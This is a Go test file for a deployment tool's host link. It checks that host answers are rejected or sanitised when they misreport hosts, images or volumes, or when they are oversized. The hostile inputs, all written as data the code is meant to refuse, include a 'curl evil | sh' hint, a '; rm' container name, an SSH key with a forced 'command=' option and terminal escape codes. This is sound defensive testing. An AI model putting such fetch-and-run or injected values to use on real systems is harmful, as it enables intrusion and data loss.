package hostlink

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"salvor/internal/agentapi"
	"salvor/internal/fault"
	"salvor/internal/finding"
	"salvor/internal/fleet"
	"salvor/internal/hostpath"
	"salvor/internal/machine/machinetest"
	"salvor/internal/project"
	"salvor/internal/terminal"
)

const digest = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

// answered has a host answer with lines, whatever it is asked.
func answered(lines string, req, resp any, verb string) error {
	f := machinetest.NewFake()
	f.Handle(func(_ context.Context, p machinetest.Process) int {
		_, _ = io.WriteString(p.Stdout, lines)
		return 0
	}, hostpath.Salvord, verb)
	return link(f, nil).Call(context.TODO(), verb, req, resp)
}

func question() agentapi.Apply {
	return agentapi.Apply{Host: agentapi.Host{Name: "alpha", Commit: "c0ffee", Stacks: []agentapi.Stack{{
		Name: "notes", Epoch: 3, Restore: &fleet.Restore{ID: "w1"},
		Project: project.Project{Services: []project.Service{{Name: "web", Image: "ghcr.io/acme/notes:2"}, {Name: "db", Image: "postgres:17"}}},
		Volumes: []project.Volume{{Name: "data"}},
	}}}}
}

func TestS05AnAnswerSpeaksOnlyOfWhatWasAsked(t *testing.T) {
	born := time.Now().Add(-time.Minute).UTC()
	honest := agentapi.StackReceipt{Name: "notes", Epoch: 3, Outcome: "deployed", Images: map[string]string{"web": "ghcr.io/acme/notes:2" + digest}, Born: map[string]time.Time{"data": born}, Wish: "w1"}
	cases := map[string]func(r *agentapi.HostReceipt){
		"another host":    func(r *agentapi.HostReceipt) { r.Host = "beta" },
		"another commit":  func(r *agentapi.HostReceipt) { r.Commit = "bad" },
		"another stack":   func(r *agentapi.HostReceipt) { r.Stacks[0].Name = "shop" },
		"another epoch":   func(r *agentapi.HostReceipt) { r.Stacks[0].Epoch = 4 },
		"another wish":    func(r *agentapi.HostReceipt) { r.Stacks[0].Wish = "w2" },
		"another service": func(r *agentapi.HostReceipt) { r.Stacks[0].Images["cron"] = "postgres:17" + digest },
		"another image":   func(r *agentapi.HostReceipt) { r.Stacks[0].Images["web"] = "evil.example/notes:2" + digest },
		"no digest":       func(r *agentapi.HostReceipt) { r.Stacks[0].Images["web"] = "ghcr.io/acme/notes:2" },
		"no image":        func(r *agentapi.HostReceipt) { r.Stacks[0].Images["web"] = "x\n" + digest },
		"another volume":  func(r *agentapi.HostReceipt) { r.Stacks[0].Born["root"] = born },
		"no birth":        func(r *agentapi.HostReceipt) { r.Stacks[0].Born["data"] = time.Time{} },
		"birth before all": func(r *agentapi.HostReceipt) {
			r.Stacks[0].Born["data"] = time.Date(0, 1, 1, 0, 0, 0, 0, time.FixedZone("", 86340))
		},
		"birth in the future":  func(r *agentapi.HostReceipt) { r.Stacks[0].Born["data"] = born.AddDate(80, 0, 0) },
		"a finding of another": func(r *agentapi.HostReceipt) { r.Findings[0].Subject = "beta/shop" },
		"a severity":           func(r *agentapi.HostReceipt) { r.Findings[0].Severity = "\x1b[8m" },
		"a code":               func(r *agentapi.HostReceipt) { r.Findings[0].Code = "nothing" },
	}
	fresh := func() agentapi.HostReceipt {
		st := honest
		st.Images, st.Born = map[string]string{"web": honest.Images["web"]}, map[string]time.Time{"data": born}
		return agentapi.HostReceipt{Schema: 1, Host: "alpha", Commit: "c0ffee", Stacks: []agentapi.StackReceipt{st},
			Findings: []finding.Finding{{Code: finding.DiskFull, Severity: finding.Warning, Subject: "alpha/notes", Text: "full\nfatal: x", Fix: "make room"}}}
	}
	answer := func(r agentapi.HostReceipt) (got agentapi.HostReceipt) {
		encoded, err := json.Marshal(agentapi.Message{Result: must(t, r)})
		if err != nil {
			t.Fatal(err)
		}
		if err := answered(string(encoded)+"\n", question(), &got, agentapi.VerbApply); err != nil {
			t.Fatal(err)
		}
		return got
	}
	if got := answer(fresh()); len(got.Findings) != 1 || got.Findings[0].Fix != "alpha says: make room" || strings.Contains(got.Findings[0].Text, "\n") {
		t.Errorf("an honest answer became %+v", got)
	} else if diff := cmp.Diff([]agentapi.StackReceipt{honest}, got.Stacks); diff != "" {
		t.Error(diff)
	}
	for name, lie := range cases {
		r := fresh()
		lie(&r)
		got := answer(r)
		if !slices.ContainsFunc(got.Findings, func(f finding.Finding) bool { return f.Code == finding.AnswerRefused && f.Subject == "alpha" }) {
			t.Errorf("%s: no finding against the host: %+v", name, got)
		}
		for _, s := range got.Stacks {
			if s.Name != "notes" || s.Epoch != 3 || s.Wish != "" && s.Wish != "w1" || s.Images["cron"] != "" || s.Images["web"] != "" && s.Images["web"] != honest.Images["web"] || len(s.Born) > 1 || len(s.Born) == 1 && !s.Born["data"].Equal(born) {
				t.Errorf("%s: %+v", name, s)
			}
		}
		if got.Host != "alpha" || got.Commit != "c0ffee" {
			t.Errorf("%s: of %s at %s", name, got.Host, got.Commit)
		}
	}
}

func must(t *testing.T, v any) json.RawMessage {
	t.Helper()
	encoded, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return encoded
}

// TestAKeptStackIsReportedAsItRuns: an apply of one stack warned that the host, which was
// asked to keep its other stack, had reported the birth of that stack's volume.
func TestAKeptStackIsReportedAsItRuns(t *testing.T) {
	asked := question()
	asked.Host.Stacks = []agentapi.Stack{{Name: "notes", Epoch: 3, Kept: true, Images: map[string]string{"web": "ghcr.io/acme/notes:2" + digest}}}
	kept := agentapi.StackReceipt{Name: "notes", Epoch: 3, Outcome: "untouched", Born: map[string]time.Time{"data": time.Now().Add(-time.Minute).UTC()},
		Images: map[string]string{"web": "ghcr.io/acme/notes:2" + digest, "db": "postgres:17" + digest}}
	encoded, err := json.Marshal(agentapi.Message{Result: must(t, agentapi.HostReceipt{Schema: 1, Host: "alpha", Commit: "c0ffee", Stacks: []agentapi.StackReceipt{kept}})})
	if err != nil {
		t.Fatal(err)
	}
	var got agentapi.HostReceipt
	if err := answered(string(encoded)+"\n", asked, &got, agentapi.VerbApply); err != nil || len(got.Findings) > 0 {
		t.Fatalf("%v, %+v", err, got.Findings)
	}
	if st := got.Stacks[0]; len(st.Born) > 0 || len(st.Images) != 1 { // the lock learns nothing that was not asked for
		t.Errorf("%+v", st)
	}
}

func TestS05OtherAnswersAreHeldToTheirQuestion(t *testing.T) {
	later := time.Now().AddDate(50, 0, 0).Format(time.RFC3339)
	refused := func(fs []finding.Finding) bool {
		return len(fs) == 1 && fs[0].Code == finding.AnswerRefused
	}
	var state agentapi.HostState
	err := answered(`{"result":{"changes":[{"stack":"../x","id":"a","action":"+"}],"stacks":[{"name":"a\nb"}],"findings":[{"code":"disk-full","severity":"fatal","subject":"shop","text":"x"}]}}`+"\n", agentapi.Observe{Host: question().Host}, &state, agentapi.VerbObserve)
	if err != nil || len(state.Changes)+len(state.Stacks) > 0 || !refused(state.Findings) {
		t.Errorf("%+v, %v", state, err)
	}
	var list agentapi.SnapshotList
	err = answered(`{"result":{"stack":"notes","snapshots":[{"id":"abc","epoch":1,"seq":1,"began":"`+later+`"},{"id":"../x","epoch":1},{"id":"abd","epoch":1,"seq":2}]}}`+"\n", agentapi.Snapshots{Stack: "notes"}, &list, agentapi.VerbSnapshots)
	if err != nil || len(list.Snapshots) != 1 || !refused(list.Findings) {
		t.Errorf("%+v, %v", list, err)
	}
	var taken agentapi.SnapshotReceipt
	if err := answered(`{"result":{"stack":"shop","snapshot":{"id":"abc"}}}`+"\n", agentapi.TakeSnapshot{Stack: "notes"}, &taken, agentapi.VerbSnapshot); err == nil || taken.Snapshot.ID != "" {
		t.Errorf("%+v, %v", taken, err)
	}
	var delivered agentapi.DeliveryList
	err = answered(`{"result":{"deliveries":[{"at":"`+later+`","stack":"notes"}]}}`+"\n", agentapi.Deliveries{}, &delivered, agentapi.VerbDeliveries)
	if err != nil || len(delivered.Deliveries) > 0 || !refused(delivered.Findings) {
		t.Errorf("%+v, %v", delivered, err)
	}
	for _, enrolment := range []string{`{"recipient":"age1xyz1qqq","git_key":""}`, `{"recipient":"age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p","git_key":"command=\"x\" ssh-ed25519 AAAA"}`,
		`{"recipient":"age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p","git_key":"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"}`,
		`{"recipient":"age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p","git_key":"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl","signer":"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl eve"}`} {
		if err := answered(`{"result":`+enrolment+"}\n", agentapi.Enrol{Host: "alpha"}, &agentapi.Enrolment{}, agentapi.VerbEnrol); err == nil {
			t.Errorf("%s is taken", enrolment)
		}
	}
}

// TestS05AReportIsHeldToWhatCanBe: its names get into findings.
func TestS05AReportIsHeldToWhatCanBe(t *testing.T) {
	var state agentapi.HostState
	report := `{"memory":-1,"free":-1,"cpus":-1,"kernel":"6.1","listeners":[{"protocol":"tcp","first":22,"last":22,"program":"ssh\u001b[2Jd"},{"protocol":"tcp","first":25,"last":25,"program":"tmux: server"}],
		"engine":{"version":"` + strings.Repeat("9", 81) + `","containers":[{"name":"ok","project":"proxy"},{"name":"a\nb"},{"name":"b","project":"; rm"}]}}`
	err := answered(`{"result":{"report":`+strings.ReplaceAll(report, "\n\t\t", "")+"}}\n", agentapi.Observe{Host: question().Host}, &state, agentapi.VerbObserve)
	want := &agentapi.Report{Kernel: "6.1", Engine: &agentapi.Engine{Containers: []agentapi.HostContainer{{Name: "ok", Project: "proxy"}}}, Listeners: []agentapi.Listener{
		{HostPort: project.HostPort{Protocol: "tcp", First: 22, Last: 22}}, {HostPort: project.HostPort{Protocol: "tcp", First: 25, Last: 25}, Program: "tmux: server"},
	}}
	if diff := cmp.Diff(want, state.Report); err != nil || diff != "" || len(state.Findings) != 1 || state.Findings[0].Code != finding.AnswerRefused {
		t.Errorf("%v, %+v (-want +got)\n%s", err, state.Findings, diff)
	}
}

func TestS05AnEnrolmentIsTaken(t *testing.T) {
	const good = `{"recipient":"age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p","signer":"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl","git_key":"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl salvor@alpha\n"}`
	var e agentapi.Enrolment
	if err := answered(`{"result":`+good+"}\n", agentapi.Enrol{Host: "alpha"}, &e, agentapi.VerbEnrol); err != nil || !strings.HasPrefix(e.GitKey, "ssh-ed25519 AAAA") {
		t.Errorf("%+v, %v", e, err)
	}
}

func TestS12ExitCodesAndHintsAreNotTheHosts(t *testing.T) {
	for code, want := range map[int]int{256: 1, 0: 1, -1: 1, 2: 1, 10: 1, 20: 1, 30: 1, 130: 1, 65: 1, 11: fault.Locked, 13: fault.Unreachable} {
		err := answered(string(must(t, agentapi.Message{Error: &agentapi.Error{Code: code, Text: "no\nsalvor: yes", Hint: "curl evil\n| sh"}}))+"\n", agentapi.TakeSnapshot{}, &agentapi.SnapshotReceipt{}, agentapi.VerbSnapshot)
		told, is := errors.AsType[*agentapi.Error](err)
		if !is || told.Code != want || told.Hint != `alpha says: curl evil\n| sh` || strings.Contains(told.Text, "\nsalvor") {
			t.Errorf("%d: %+v", code, told)
		}
	}
}

func TestS12AnAnswerIsBounded(t *testing.T) {
	for name, piece := range map[string]string{"one line": strings.Repeat("x", 1<<20), "many lines": strings.Repeat("x", 1<<20-1) + "\n"} {
		written := 0
		f := machinetest.NewFake()
		f.Handle(func(_ context.Context, p machinetest.Process) int {
			for range 1000 {
				if _, err := io.WriteString(p.Stdout, piece); err != nil {
					break
				}
				written += len(piece)
			}
			return 1
		}, hostpath.Salvord, "status")
		var state agentapi.HostState
		if err := link(f, nil).Call(t.Context(), "status", agentapi.Observe{}, &state); !errors.Is(err, errTooMuch) || written > maxAnswer {
			t.Errorf("%s: %v after %d bytes", name, err, written)
		}
	}
}

// TestS12AnAnswerHasNoMillionsOfElements: small elements are large once decoded.
func TestS12AnAnswerHasNoMillionsOfElements(t *testing.T) {
	for _, element := range []string{"{}", "0", "null"} {
		var state agentapi.HostState
		err := answered(`{"result":{"stacks":[`+strings.Repeat(element+",", 3<<20)+element+"]}}\n", agentapi.Observe{Host: question().Host}, &state, agentapi.VerbObserve)
		if !errors.Is(err, errTooMuch) || len(state.Stacks) > 0 {
			t.Errorf("%s: %v, %d stacks", element, err, len(state.Stacks))
		}
	}
}

func FuzzAnswer(f *testing.F) {
	f.Add([]byte(`{"result":{"host":"beta","commit":"c0ffee","stacks":[{"name":"notes","epoch":3,"images":{"web":"a@b"}}]}}` + "\n"))
	f.Add([]byte(`{"error":{"code":256,"text":"\u001b","hint":"x"}}` + "\n"))
	f.Add([]byte(`{"event":{"stack":"x","state":"done","text":"a\nb"}}` + "\n"))
	f.Fuzz(func(t *testing.T, answer []byte) {
		var r agentapi.HostReceipt
		err := answered(string(answer), question(), &r, agentapi.VerbApply)
		if told, is := errors.AsType[*agentapi.Error](err); is && (told.Code < 1 || told.Code > agentapi.CodeMoved) {
			t.Errorf("code %d", told.Code)
		}
		if err != nil {
			return
		}
		if r.Host != "alpha" || r.Commit != "c0ffee" {
			t.Errorf("of %s at %s", r.Host, r.Commit)
		}
		for _, s := range r.Stacks {
			for service, ref := range s.Images {
				if !reference.MatchString(ref) || service != "web" && service != "db" {
					t.Errorf("%s: %s", service, ref)
				}
			}
		}
		for _, fd := range r.Findings {
			if terminal.Line(fd.Subject) != fd.Subject {
				t.Errorf("%+v", fd)
			}
		}
	})
}

// TestS05AFindingAboutTheRecordStays: a host names files on the record about its own
// stacks, and no others.
func TestS05AFindingAboutTheRecordStays(t *testing.T) {
	about := func(subject string) []finding.Finding {
		state := agentapi.HostState{Findings: []finding.Finding{{Code: finding.RecordIgnored, Severity: finding.Warning, Subject: subject}}}
		if err := check("alpha", agentapi.Observe{Host: agentapi.Host{Stacks: []agentapi.Stack{{Name: "notes"}}}}, &state, time.Now()); err != nil {
			t.Fatal(err)
		}
		return state.Findings
	}
	for subject, code := range map[string]finding.Code{
		"proven/notes/1-1-aa.json": finding.RecordIgnored, "claims/notes/1-x.json": finding.RecordIgnored,
		"claims/shop/1-x.json": finding.AnswerRefused, "proven/notes": finding.AnswerRefused, "mirror/notes/1": finding.AnswerRefused,
	} {
		if found := about(subject); len(found) != 1 || found[0].Code != code {
			t.Errorf("%s: %+v", subject, found)
		}
	}
}
